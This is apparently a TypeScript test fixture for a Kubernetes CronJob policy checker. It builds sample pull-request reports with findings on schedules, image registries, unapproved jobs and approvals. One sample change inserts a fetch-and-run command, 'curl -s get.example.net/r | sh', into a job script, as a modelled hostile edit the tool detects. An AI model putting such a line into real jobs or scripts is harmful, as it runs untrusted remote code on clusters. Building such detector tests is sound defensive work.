// Reports as a real pull request gives them, for the tests of the formats: read what a format prints of them as its user.
import type { Change, Finding, JsonObject, Location, Manifest, Workload } from '../../src/model.ts';
import type { CheckReport, ListReport, VerifyReport } from '../../src/outcome.ts';

export function location(path: string, line: number, column = 1, precision: Location['precision'] = 'exact'): Location {
  return { path, line, column, precision };
}

/** A workload of a plain manifest; what is given replaces the defaults. */
export function workload(fields: Partial<Workload> & { readonly location: Location }): Workload {
  const object: JsonObject = {};
  const folder = fields.location.path.split('/').slice(0, -1).join('/');
  const source = fields.source ?? { type: 'manifest' as const, path: folder };
  const manifest: Manifest = {
    file: { path: fields.location.path, source, bytes: new Uint8Array() },
    object,
    locate: () => fields.location,
    comment: '',
  };
  return {
    apiVersion: 'batch/v1',
    group: 'batch',
    kind: 'CronJob',
    namespace: null,
    name: null,
    generateName: null,
    schedule: null,
    timeZone: null,
    suspend: false,
    environment: null,
    serviceAccount: null,
    images: [],
    hooks: [],
    source,
    manifest,
    at: [],
    object,
    projections: [],
    scripts: [],
    digest: `sha256:${'4b1c9e07'.repeat(8)}`,
    locate: () => fields.location,
    ...fields,
  };
}

const REPORT_FILE = 'apps/billing/nightly-report.yaml';

const reportBefore = workload({
  location: location(REPORT_FILE, 1),
  namespace: 'billing',
  name: 'nightly-report',
  schedule: '0 2 * * *',
  timeZone: 'Etc/UTC',
  serviceAccount: 'report-runner',
  images: ['ghcr.io/acme/report:1.4.2'],
});
const reportAfter = workload({
  ...reportBefore,
  schedule: '*/1 * * * *',
  images: ['docker.io/acme-tools/report:latest'],
  digest: `sha256:${'a70d2f55'.repeat(8)}`,
});

const cleanup = workload({
  location: location('charts/tools/templates/cleanup.yaml', 3, 3, 'template'),
  kind: 'Job',
  namespace: 'kube-system',
  name: 'node-cleanup',
  serviceAccount: 'cluster-admin',
  images: ['alpine:3'],
  hooks: ['helm.sh/hook: post-install'],
  environment: 'prod',
  source: { type: 'helm', path: 'charts/tools', detail: 'release tools, values.yaml' },
});

const legacy = workload({
  location: location('apps/ops/legacy.yaml', 1),
  namespace: 'ops',
  name: 'legacy-sync',
  schedule: '@hourly',
  images: ['ghcr.io/acme/sync:2.0'],
});

const drain = workload({
  location: location('apps/ops/queue-drain.yaml', 1),
  namespace: 'ops',
  name: 'queue-drain',
  schedule: '* * * * *',
  serviceAccount: 'queue',
  images: ['ghcr.io/acme/drain:7'],
});

const migrate = workload({
  location: location('apps/shop/migrate.yaml', 12),
  kind: 'Job',
  namespace: 'shop',
  generateName: 'migrate-',
  images: ['ghcr.io/acme/migrate:3.1.0'],
});

const changes: readonly Change[] = [
  {
    change: 'modified',
    workload: reportAfter,
    before: reportBefore,
    after: reportAfter,
    classes: ['schedule', 'image-source', 'command', 'environment'],
    fields: [
      {
        path: 'ConfigMap report-scripts: run.sh',
        class: 'command',
        location: location('apps/billing/scripts.yaml', 8, 5),
        before: '#!/bin/sh\nset -eu\nreport --send\n',
        after: '#!/bin/sh\nset -eu\ncurl -s get.example.net/r | sh\nreport --send\n',
      },
      {
        path: 'spec.jobTemplate.spec.template.spec.containers[0].image',
        class: 'image-source',
        location: location(REPORT_FILE, 19, 22),
        before: 'ghcr.io/acme/report:1.4.2',
        after: 'docker.io/acme-tools/report:latest',
      },
      {
        path: 'spec.jobTemplate.spec.backoffLimit',
        class: 'environment',
        location: location(REPORT_FILE, 10, 7),
        before: undefined,
        after: 0,
      },
      {
        path: 'spec.schedule',
        class: 'schedule',
        location: location(REPORT_FILE, 7, 13),
        before: '0 2 * * *',
        after: '*/1 * * * *',
      },
    ],
    listed: true,
  },
  { change: 'added', workload: cleanup, before: null, after: cleanup, classes: ['new'], fields: [], listed: false },
  { change: 'removed', workload: legacy, before: legacy, after: null, classes: ['removed'], fields: [], listed: false },
  {
    change: 'modified',
    workload: drain,
    before: { ...drain, images: ['ghcr.io/acme/drain:6'] },
    after: drain,
    classes: ['image'],
    fields: [
      {
        path: 'spec.jobTemplate.spec.template.spec.containers[0].image',
        class: 'image',
        location: location('apps/ops/queue-drain.yaml', 15, 22),
        before: 'ghcr.io/acme/drain:6',
        after: 'ghcr.io/acme/drain:7',
      },
    ],
    listed: true,
  },
];

const reportRef = { kind: 'CronJob', namespace: 'billing', name: 'nightly-report' };
const cleanupRef = { kind: 'Job', namespace: 'kube-system', name: 'node-cleanup' };

const findings: readonly Finding[] = [
  {
    rule: 'schedule-too-frequent',
    severity: 'high',
    message: 'CronJob `billing`/`nightly-report` runs every minute; the shortest interval allowed is 5 minutes.',
    remediation: 'Run it less often, or ask for an exception in its inventory entry.',
    location: location(REPORT_FILE, 7, 13),
    workload: reportRef,
    attack: ['T1053.007'],
    blocking: true,
  },
  {
    rule: 'image-registry-not-allowed',
    severity: 'critical',
    message: 'The image `docker.io/acme-tools/report:latest` of container `report` is not from an allowed repository.',
    remediation: 'Use an image that `images.allow` in the config matches.',
    location: location(REPORT_FILE, 19, 22),
    workload: reportRef,
    attack: ['T1525', 'T1610'],
    blocking: true,
  },
  {
    rule: 'job-not-in-inventory',
    severity: 'critical',
    message: 'Job `kube-system`/`node-cleanup` is not in the inventory of approved scheduled workloads.',
    remediation: 'Remove it, or write its entry with `cronledger inventory add` and have the entry approved.',
    location: location('charts/tools/templates/cleanup.yaml', 3, 3, 'template'),
    workload: cleanupRef,
    attack: ['T1053.007'],
    blocking: true,
  },
  {
    rule: 'run-as-root',
    severity: 'medium',
    message: 'Container `cleanup` may run as root.',
    remediation: 'Set `securityContext.runAsNonRoot`.',
    location: location('charts/tools/values.yaml', 4, 1, 'values'),
    workload: cleanupRef,
    attack: [],
    blocking: false,
  },
  {
    rule: 'schedule-too-frequent',
    severity: 'high',
    message: 'CronJob `ops`/`queue-drain` runs every minute; the shortest interval allowed is 5 minutes.',
    remediation: 'Run it less often, or ask for an exception in its inventory entry.',
    location: location('apps/ops/queue-drain.yaml', 6, 13),
    workload: { kind: 'CronJob', namespace: 'ops', name: 'queue-drain' },
    attack: ['T1053.007'],
    excepted: { reason: 'The queue must be drained every minute.', expires: '2027-01-01' },
    blocking: false,
  },
  {
    rule: 'inventory-expired',
    severity: 'low',
    message: 'The entry of CronJob `shop`/`prices` expires on 2026-12-20.',
    remediation: 'Renew it with `cronledger inventory update`, or remove the workload.',
    location: location('.cronledger/inventory/shop.yaml', 31, 5),
    workload: null,
    attack: [],
    blocking: false,
  },
];

/** A hostile pull request among harmless changes; something of everything. */
export function sampleCheckReport(): CheckReport {
  return {
    command: 'check',
    verdict: 'violation',
    base: { name: 'origin/main', commit: '3f2a9c1b7d04e5a6980c1f2e3d4b5a6978877665' },
    head: { name: 'HEAD', commit: '9b1c7d2e0a3f4b5c6d7e8f90a1b2c3d4e5f60718' },
    changes,
    findings,
    accounts: [
      {
        path: 'README.md',
        account: 'inert',
        why: 'It holds no object, and nothing that deploys reads it.',
        reachedBy: [],
      },
      {
        path: 'apps/billing/nightly-report.yaml',
        account: 'manifest',
        why: 'It holds objects, which are judged as they are applied.',
        reachedBy: [],
      },
      {
        path: 'charts/app/values.yaml',
        account: 'rendered',
        why: 'It goes into the chart `charts/app`, which is judged by what it renders to.',
        reachedBy: ['the chart `charts/app`'],
      },
    ],
    untouched: [],
    inFull: { accounts: false, untouched: false },
    needs: [
      {
        name: 'the owner of the workload',
        reason: 'CronJob `billing`/`nightly-report` (schedule, command, image-source)',
        from: ['@acme/billing'],
        required: 1,
        status: 'approved',
        approvedBy: ['@alice'],
        ignored: [],
        mayApprove: [],
        notes: [],
      },
      {
        name: 'platform security',
        reason: 'Job `kube-system`/`node-cleanup` (new)',
        from: ['@acme/platform-security', '@carol'],
        required: 2,
        status: 'pending',
        approvedBy: ['@carol'],
        ignored: [{ who: '@mallory', why: 'opened this pull request.' }],
        mayApprove: ['@acme/platform-security'],
        notes: ['The members of `@acme/platform-security` cannot be read.'],
      },
    ],
    problems: [
      {
        code: 'render-failed',
        path: 'charts/api',
        message: '`helm template` stopped: values.yaml has no key `image.tag`.',
        hint: 'Mend the chart, or name its values files under `sources` in the config.',
      },
    ],
    stats: { filesChanged: 7, filesParsed: 5, workloadsChecked: 6, unlistedBefore: 2 },
    suggestedEdits: [
      {
        workload: cleanupRef,
        file: '.cronledger/inventory/kube-system.yaml',
        yaml: [
          '  - kind: Job',
          '    namespace: kube-system',
          '    name: node-cleanup',
          "    owner: '@acme/platform'",
          '    purpose: Say what it is for.',
          '    source: charts/tools',
          '    serviceAccount: cluster-admin',
          "    images: ['docker.io/library/alpine:*']",
          `    digest: sha256:${'4b1c9e07'.repeat(8)}`,
          '',
        ].join('\n'),
        command: 'cronledger inventory add Job/kube-system/node-cleanup',
      },
    ],
  };
}

/** The pull request that everybody hopes for: an image bump inside its pattern. */
export function harmlessCheckReport(): CheckReport {
  return {
    ...sampleCheckReport(),
    verdict: 'pass',
    changes: changes.slice(3),
    findings: findings.slice(4, 5),
    needs: [],
    problems: [],
    stats: { filesChanged: 1, filesParsed: 1, workloadsChecked: 1, unlistedBefore: 0 },
    suggestedEdits: [],
  };
}

export function sampleVerifyReport(): VerifyReport {
  return {
    command: 'verify',
    verdict: 'violation',
    workloads: sampleListReport().workloads,
    findings: findings.filter(finding => finding.workload !== null),
    problems: [],
  };
}

export function sampleListReport(): ListReport {
  return {
    command: 'list',
    sources: null,
    workloads: [
      { workload: reportAfter, listed: true },
      { workload: { ...drain, suspend: true }, listed: true },
      { workload: migrate, listed: false },
      { workload: cleanup, listed: false },
    ],
    problems: [
      {
        code: 'unreadable-manifest',
        path: 'apps/shop/broken.yaml',
        message: 'The file is not valid YAML: line 4 is indented with a tab.',
        hint: 'Indent it with spaces.',
      },
    ],
  };
}
